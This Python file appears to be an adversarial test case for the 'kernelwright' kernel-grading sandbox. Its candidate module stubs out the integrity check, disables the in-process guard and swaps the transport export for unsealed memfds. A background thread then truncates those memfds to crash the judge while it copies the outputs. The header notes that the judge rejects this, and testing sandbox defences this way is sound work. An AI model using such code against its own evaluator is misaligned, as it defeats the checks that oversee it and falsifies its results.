# Exploit: racing the judge's copy of a reply. The candidate owns its process: it blinds that
# process's integrity check, replaces the transport's export so that its outputs' memfds go out
# unsealed, and right after each reply is sent a thread (the in-process guard switched off)
# shrinks them to nothing and back again while the judge maps and copies them: a judge that
# read the size before mapping died of SIGBUS. (Outputs go into the judge's sealed region first:
# the exploit empties its slot list so they travel in memfds of its own, and tries to shrink
# the region too, which its seals refuse.) The judge refuses a memfd that is not sealed
# against resizing and writes before it reads its size: "protocol", and it goes on judging.
import os
import sys
import threading
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl

_transport = sys.modules["kernelwright.sandbox.crossing.transport"]
_guard = sys.modules["kernelwright.sandbox.candidate.guard"]
sys.modules["kernelwright.sandbox.candidate.integrity"].integrity_diff = lambda before, after: []
_export_sealed, _send = _transport.export_sealed, _transport.send
_kept: list[int] = []


def _export_unsealed(t, *, keep_layout):
    if keep_layout:  # the inputs as forward left them: not raced
        return _export_sealed(t, keep_layout=True)
    buffer = _transport.SharedBuffer(t.numel() * t.element_size())
    if t.numel():
        buffer.tensor(t.dtype).copy_(t.reshape(-1))
    _kept.append(os.dup(buffer.fd))  # the candidate closes its buffers after sending: keep one
    return buffer


def _resize(fds):
    _guard._GUARD = None  # the audit hook returns at once without a guard
    sizes = [os.fstat(fd).st_size for fd in fds]
    end = time.monotonic() + 30.0
    while time.monotonic() < end:
        for fd, size in zip(fds, sizes):
            os.ftruncate(fd, 0)
            os.ftruncate(fd, size)


def _send_then_resize(sock, message, fds=()):
    _send(sock, message, fds)
    if _kept:
        threading.Thread(target=_resize, args=(list(_kept),), daemon=True).start()
        _kept.clear()


_transport.export_sealed = _export_unsealed
_transport.send = _send_then_resize


@triton.jit
def _affine_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.load(x_ptr + offs, mask=mask) * 3.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        import gc

        _guard._GUARD = None
        for obj in gc.get_objects():
            if type(obj).__name__ == "Layout":
                obj.outputs = []  # no output slots of the judge's region: memfds of its own
            elif type(obj).__name__ == "HostRegion":
                try:  # the judge's own region is sealed against resizing
                    os.ftruncate(obj.fd, 0)
                except OSError:
                    pass
        y = torch.empty_like(x)
        _affine_kernel[(triton.cdiv(x.numel(), 256),)](x, y, x.numel(), BLOCK=256)
        return y
